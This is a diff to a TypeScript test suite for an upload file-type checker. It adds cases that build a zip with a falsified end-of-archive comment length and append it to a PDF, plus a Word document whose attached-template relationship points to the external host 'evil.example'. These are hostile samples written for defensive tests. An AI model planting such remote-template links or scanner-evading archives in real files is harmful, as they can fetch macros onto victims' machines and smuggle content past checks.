@@ -13,6 +13,13 @@ const join = (...parts: readonly Uint8Array[]): Uint8Array => Buffer.concat(part
 const docx = officeFile('wordprocessingml.document');
 const xlsx = officeFile('spreadsheetml.sheet');
 
+// States a comment that is longer than what follows: strict readers see no archive, others open it.
+const lyingZip = (): Uint8Array => {
+  const archive = zipSync({ 'a.html': strToU8('<p>') });
+  new DataView(archive.buffer).setUint16(archive.byteLength - 2, 5000, true);
+  return archive;
+};
+
 describe('the kind of a file', () => {
   test.each([
     ['a.pdf', pdfFile(), 'pdf'],
@@ -53,6 +60,14 @@ describe('the kind of a file', () => {
   test.each([
     ['macros among the parts', { 'word/vbaProject.bin': strToU8('x') }],
     ['a control that runs', { 'word/activeX/activeX1.xml': strToU8('<x/>') }],
+    [
+      'a template from elsewhere, which may bring macros',
+      {
+        'word/_rels/settings.xml.rels': strToU8(
+          '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+        ),
+      },
+    ],
   ])('%s are refused', async (_, parts) => {
     expect(await decide('a.docx', officeFile('wordprocessingml.document', parts))).toBe('file.macros');
   });
@@ -66,6 +81,7 @@ describe('the kind of a file', () => {
   test.each([
     ['a picture with an archive behind it', 'a.png', join(pngFile(), docx), 'file.broken'],
     ['a photograph with an archive behind it', 'a.jpg', join(jpegFile(), docx), 'file.disguised'],
+    ['a PDF with an archive that lies about its end', 'a.pdf', join(pdfFile(), lyingZip()), 'file.disguised'],
     ['a PDF with an archive in it', 'a.pdf', join(pdfFile(), docx, pdfFile()), 'file.disguised'],
     [
       'a photograph that is a page',
